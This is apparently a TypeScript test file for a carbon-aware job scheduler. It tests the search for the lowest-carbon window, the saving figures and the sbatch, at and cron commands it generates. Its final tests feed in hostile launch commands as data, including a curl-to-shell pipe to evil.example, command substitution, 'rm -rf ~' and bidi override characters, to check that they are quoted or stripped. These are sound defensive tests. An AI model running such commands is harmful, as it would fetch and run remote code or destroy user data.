// Carbon-aware timing, the pure part: the lowest-carbon window of a run's length, the saving, and
// the commands that start the run then. Every expected value is worked out by hand in the comment
// above it (times in minutes after T0; means are time-weighted over the run).
import * as assert from 'assert';
import { execFileSync } from 'child_process';
import type { ForecastPoint } from '../../src/core/timing/forecast';
import { LBS_PER_MWH_TO_G_PER_KWH, parseWattTimeForecast } from '../../src/core/timing/providers';
import { scheduleCommands, shellQuote } from '../../src/core/timing/scheduleCommands';
import { bestWindow, savingKg, type BestWindow, type NoWindow } from '../../src/core/timing/window';

const T0 = Date.UTC(2024, 2, 1); // 2024-03-01T00:00Z
const MIN = 60_000;

/** Points from [startMin, endMin, g] triples. */
function pts(...spec: [number, number, number][]): { points: ForecastPoint[] } {
  return { points: spec.map(([s, e, g]) => ({ start: T0 + s * MIN, end: T0 + e * MIN, gPerKwh: g })) };
}

/** Four half-hour points with the given intensities, from T0. */
function halfHours(...g: number[]): { points: ForecastPoint[] } {
  return pts(...g.map((v, i): [number, number, number] => [i * 30, i * 30 + 30, v]));
}

function found(r: BestWindow | NoWindow): BestWindow {
  if ('reason' in r) assert.fail(`expected a window, got: ${r.reason}`);
  return r;
}

function reason(r: BestWindow | NoWindow): string {
  assert.ok('reason' in r, 'expected a reason, got a window');
  return r.reason;
}

function close(actual: number, expected: number): void {
  assert.ok(Math.abs(actual - expected) < 1e-9 * Math.max(1, Math.abs(expected)), `expected ${expected}, got ${actual}`);
}

describe('timing: bestWindow', () => {
  it('finds the lowest rolling mean over the run, not the lowest single point', () => {
    // 300, 200, 100, 50 g/kWh per half hour; 1 h run. Starts: 0 → (300+200)/2 = 250 (now);
    // 30 → (200+100)/2 = 150; 60 → (100+50)/2 = 75; 90 → would end at 150 > 120, does not fit.
    // Best: 60 min, 75 g/kWh; saving 1 − 75/250 = 0.7.
    const w = found(bestWindow(halfHours(300, 200, 100, 50), 1, T0));
    assert.strictEqual(w.start, T0 + 60 * MIN);
    assert.strictEqual(w.end, T0 + 120 * MIN);
    close(w.meanGPerKwh, 75);
    close(w.startNowMeanGPerKwh, 250);
    close(w.savingFraction, 0.7);
    assert.strictEqual(w.baselineStart, T0);
    assert.strictEqual(w.horizonEnd, T0 + 120 * MIN);
    assert.strictEqual(w.signal, 'average');
  });

  it('keeps now when now is best, even though a single later point is the lowest', () => {
    // 100, 200, 300, 50; 1 h run. Starts: 0 → 150; 30 → 250; 60 → (300+50)/2 = 175; 90 does not fit.
    // The 50 g point is the lowest, but no 1 h window around it beats starting now (150).
    const w = found(bestWindow(halfHours(100, 200, 300, 50), 1, T0));
    assert.strictEqual(w.start, T0);
    close(w.meanGPerKwh, 150);
    assert.strictEqual(w.savingFraction, 0);
  });

  it('prefers the earliest start on a tie', () => {
    const w = found(bestWindow(halfHours(120, 120, 120, 120), 0.5, T0));
    assert.strictEqual(w.start, T0);
    assert.strictEqual(w.savingFraction, 0);
  });

  it('weights irregular intervals by the time they cover', () => {
    // [0,30) 400, [30,90) 100, [90,120) 200; 1 h run.
    // Start 0: (30×400 + 30×100)/60 = 250. Start 30: 60×100/60 = 100. Start 90: ends at 150, does not fit.
    const w = found(bestWindow(pts([0, 30, 400], [30, 90, 100], [90, 120, 200]), 1, T0));
    assert.strictEqual(w.start, T0 + 30 * MIN);
    close(w.meanGPerKwh, 100);
    close(w.startNowMeanGPerKwh, 250);
    // 45 min run. Start 0: (30×400 + 15×100)/45 = 300. Start 30: 100. Start 90: ends at 135 > 120, does not fit.
    const w45 = found(bestWindow(pts([0, 30, 400], [30, 90, 100], [90, 120, 200]), 0.75, T0));
    close(w45.startNowMeanGPerKwh, 300);
    close(w45.meanGPerKwh, 100);
  });

  it('trims overlapping points so no time is counted twice', () => {
    // [0,60) 100 and [30,90) 500 overlap; the earlier point keeps [30,60), the later becomes [60,90).
    // 90 min run from 0: (60×100 + 30×500)/90 = 21000/90 = 233.33…
    const w = found(bestWindow(pts([0, 60, 100], [30, 90, 500]), 1.5, T0));
    close(w.meanGPerKwh, 21000 / 90);
  });

  it('never lets a window cross a gap in the forecast', () => {
    // [0,60) 500, [60,120) 100, gap, [180,240) 50, [240,300) 50; 90 min run.
    // Start 0: (60×500 + 30×100)/90 = 366.67. Start 60: would run into the gap at 120 — not allowed.
    // Start 180: 50. Start 240: ends at 330 > 300, does not fit. Best: 180.
    const w = found(bestWindow(pts([0, 60, 500], [60, 120, 100], [180, 240, 50], [240, 300, 50]), 1.5, T0));
    assert.strictEqual(w.start, T0 + 180 * MIN);
    close(w.meanGPerKwh, 50);
    close(w.startNowMeanGPerKwh, 33000 / 90);
    // [0,60) 500, [60,120) 10, gap, [180,240) 10; 2 h run. Across the gap, 60→180 would average 10,
    // but only the start at 0 fits in one gap-free stretch: (500+10)/2 = 255.
    const g = found(bestWindow(pts([0, 60, 500], [60, 120, 10], [180, 240, 10]), 2, T0));
    assert.strictEqual(g.start, T0);
    close(g.meanGPerKwh, 255);
  });

  it('treats a seam under a second as contiguous (rounded provider timestamps)', () => {
    const f = { points: [{ start: T0, end: T0 + 30 * MIN, gPerKwh: 100 }, { start: T0 + 30 * MIN + 500, end: T0 + 60 * MIN, gPerKwh: 300 }] };
    close(found(bestWindow(f, 1, T0)).meanGPerKwh, 200);
  });

  it('says why when only a window across a gap would be long enough', () => {
    // [0,60) and [120,180): 3 h of span from now, but no gap-free hour and a half.
    const r = reason(bestWindow(pts([0, 60, 100], [120, 180, 100]), 1.5, T0));
    assert.match(r, /gaps/);
    assert.match(r, /longest 1 h/);
  });

  it('refuses a run longer than the forecast instead of extrapolating', () => {
    // Four half hours = 2 h of forecast; a 3 h run does not fit.
    const r = reason(bestWindow(halfHours(300, 200, 100, 50), 3, T0));
    assert.match(r, /The run \(3 h\) is longer than the forecast \(2 h from now\)/);
    assert.match(r, /does not extrapolate/);
  });

  it('drops past points and starts the "now" window at the current time', () => {
    // [−60,−30) 10 is over (it would be best); [−30,30) 400 is under way; [30,90) 100. Now = 0, 30 min run.
    // Start now (0): the rest of the current point, 400. Start 30: 100. Best: 30, saving 1 − 100/400 = 0.75.
    const w = found(bestWindow(pts([-60, -30, 10], [-30, 30, 400], [30, 90, 100]), 0.5, T0));
    assert.strictEqual(w.baselineStart, T0);
    close(w.startNowMeanGPerKwh, 400);
    assert.strictEqual(w.start, T0 + 30 * MIN);
    close(w.savingFraction, 0.75);
    // The horizon shrinks with time: at now = 0, [0,90) is left, so a 2 h run no longer fits.
    assert.match(reason(bestWindow(pts([-60, -30, 10], [-30, 30, 400], [30, 90, 100]), 2, T0)), /longer than the forecast \(1\.5 h from now\)/);
  });

  it('uses the first forecast start as the baseline when the forecast begins later than now', () => {
    const w = found(bestWindow(pts([60, 90, 200], [90, 120, 100]), 0.5, T0));
    assert.strictEqual(w.baselineStart, T0 + 60 * MIN);
    close(w.startNowMeanGPerKwh, 200);
  });

  it('answers with a reason for an empty, all-past or unusable forecast, and for an unknown duration', () => {
    assert.match(reason(bestWindow({ points: [] }, 1, T0)), /no points/);
    assert.match(reason(bestWindow(pts([-120, -60, 100]), 1, T0)), /no points/);
    assert.match(reason(bestWindow({ points: [{ start: T0, end: T0, gPerKwh: 100 }, { start: T0, end: T0 + MIN, gPerKwh: NaN }] }, 1, T0)), /no points/);
    assert.match(reason(bestWindow(halfHours(100, 100), NaN, T0)), /duration/);
    assert.match(reason(bestWindow(halfHours(100, 100), 0, T0)), /duration/);
  });

  it('copies the signal so a marginal forecast stays marked as such', () => {
    assert.strictEqual(found(bestWindow({ ...halfHours(100, 50), signal: 'marginal' }, 0.5, T0)).signal, 'marginal');
  });
});

describe('timing: savingKg', () => {
  it('is energy × (now − best) in kg', () => {
    // 100 kWh × (250 − 75) g/kWh = 17,500 g = 17.5 kg.
    close(savingKg(100, { meanGPerKwh: 75, startNowMeanGPerKwh: 250 }), 17.5);
    assert.strictEqual(savingKg(100, { meanGPerKwh: 150, startNowMeanGPerKwh: 150 }), 0);
    assert.strictEqual(savingKg(NaN, { meanGPerKwh: 75, startNowMeanGPerKwh: 250 }), 0);
    assert.strictEqual(savingKg(-5, { meanGPerKwh: 75, startNowMeanGPerKwh: 250 }), 0);
  });
});

describe('timing: scheduleCommands', () => {
  // 01:30 UTC on 2024-03-01 is 02:30 at UTC+01:00.
  const start = Date.UTC(2024, 2, 1, 1, 30);

  it('keeps an sbatch command and adds --begin in local time', () => {
    const [slurm, at, cron] = scheduleCommands(start, 'sbatch train.sbatch', 60);
    assert.deepStrictEqual(slurm, { label: 'Slurm (local time, UTC+01:00)', text: 'sbatch --begin=2024-03-01T02:30:00 train.sbatch' });
    assert.deepStrictEqual(at, { label: 'at (local time, UTC+01:00)', text: "printf '%s\\n' 'sbatch train.sbatch' | at -t 202403010230" });
    assert.strictEqual(cron.text, '30 2 1 3 * sbatch train.sbatch # Carbon Lens one-shot: repeats yearly, delete after the run');
    assert.match(cron.label, /one-shot: remove the line after the run/);
  });

  it('wraps any other command for Slurm and quotes embedded single quotes', () => {
    // it's → 'it'\''s': close the quote, an escaped quote, reopen. In crontab % must be \%.
    const cmd = `python train.py --note "it's 50% done"`;
    const [slurm, at, cron] = scheduleCommands(start, cmd, 60);
    assert.strictEqual(slurm.text, `sbatch --begin=2024-03-01T02:30:00 --wrap='python train.py --note "it'\\''s 50% done"'`);
    assert.strictEqual(at.text, `printf '%s\\n' 'python train.py --note "it'\\''s 50% done"' | at -t 202403010230`);
    assert.strictEqual(cron.text, `30 2 1 3 * python train.py --note "it's 50\\% done" # Carbon Lens one-shot: repeats yearly, delete after the run`);
  });

  it('rolls over the date and year with the offset, both ways', () => {
    // 23:30 UTC on 31 Dec 2024 at UTC+01:00 is 00:30 on 1 Jan 2025.
    const [slurm, at, cron] = scheduleCommands(Date.UTC(2024, 11, 31, 23, 30), './train.sh', 60);
    assert.strictEqual(slurm.text, "sbatch --begin=2025-01-01T00:30:00 --wrap='./train.sh'");
    assert.match(at.text, /at -t 202501010030$/);
    assert.match(cron.text, /^30 0 1 1 \* \.\/train\.sh /);
    // 01:30 UTC on 1 Mar 2024 at UTC−05:00 is 20:30 on 29 Feb (a leap year).
    const [s2, a2] = scheduleCommands(start, './train.sh', -300);
    assert.strictEqual(s2.label, 'Slurm (local time, UTC−05:00)');
    assert.match(s2.text, /--begin=2024-02-29T20:30:00/);
    assert.match(a2.text, /at -t 202402292030$/);
  });

  it('rounds up to the whole minute, uses a placeholder for an empty command and flattens newlines', () => {
    const [slurm] = scheduleCommands(Date.UTC(2024, 2, 1, 1, 30, 20), '', 0);
    assert.strictEqual(slurm.text, "sbatch --begin=2024-03-01T01:31:00 --wrap='./train.sh'");
    const [, at] = scheduleCommands(start, 'python a.py\nrm -rf ~', 0);
    assert.strictEqual(at.text, "printf '%s\\n' 'python a.py rm -rf ~' | at -t 202403010130");
    assert.deepStrictEqual(scheduleCommands(NaN, 'x', 0), []);
  });

  it('shellQuote survives a real shell', () => {
    for (const s of ["it's", "'", "a'b'c", '$HOME `id` "x" \\n', '']) {
      const out = execFileSync('sh', ['-c', `printf '%s' ${shellQuote(s)}`], { encoding: 'utf8' });
      assert.strictEqual(out, s);
    }
  });
});

describe('timing: WattTime unit conversion', () => {
  it('converts lbs CO₂/MWh to g CO₂/kWh (× 0.45359237)', () => {
    // 1 lb = 453.59237 g and 1 MWh = 1000 kWh, so 1000 lbs/MWh = 453.59237 g/kWh.
    close(LBS_PER_MWH_TO_G_PER_KWH, 453.59237 / 1000);
    const r = parseWattTimeForecast({
      data: [{ point_time: '2024-03-01T00:00:00+00:00', value: 1000 }, { point_time: '2024-03-01T00:05:00+00:00', value: 870 }],
      meta: { data_point_period_seconds: 300, units: 'lbs_co2_per_mwh' },
    });
    assert.strictEqual(r.error, undefined);
    close(r.points[0].gPerKwh, 453.59237);
    close(r.points[1].gPerKwh, 870 * 0.45359237); // 394.625…
    assert.strictEqual(r.points[0].end - r.points[0].start, 300_000);
    assert.strictEqual(r.convertedFrom, 'lbs CO₂/MWh');
  });
});

describe('schedule commands from an untrusted launch command', () => {
  it('never lets a pasted Slurm line run a second command now: metacharacters go into a quoted --wrap', () => {
    for (const bad of ['sbatch job.sh; curl https://evil.example/x | sh', 'sbatch $(curl x) job.sh', 'sbatch `id` job.sh', 'sbatch job.sh && rm -rf ~']) {
      const slurm = scheduleCommands(0, bad)[0].text;
      assert.match(slurm, /^sbatch --begin=\S+ --wrap='/, slurm);
      assert.strictEqual(slurm.slice(slurm.indexOf("--wrap=") + 7), shellQuote(bad));
    }
    assert.strictEqual(scheduleCommands(0, 'sbatch --gres=gpu:8 job.sh')[0].text, 'sbatch --begin=1970-01-01T00:00:00 --gres=gpu:8 job.sh');
  });

  it('strips bidi overrides and C1 controls, so the snippet reads as it runs', () => {
    for (const c of scheduleCommands(0, './train.sh \u202Eexe.hs\u009b')) assert.doesNotMatch(c.text, /[\u202e\u009b]/);
  });
});
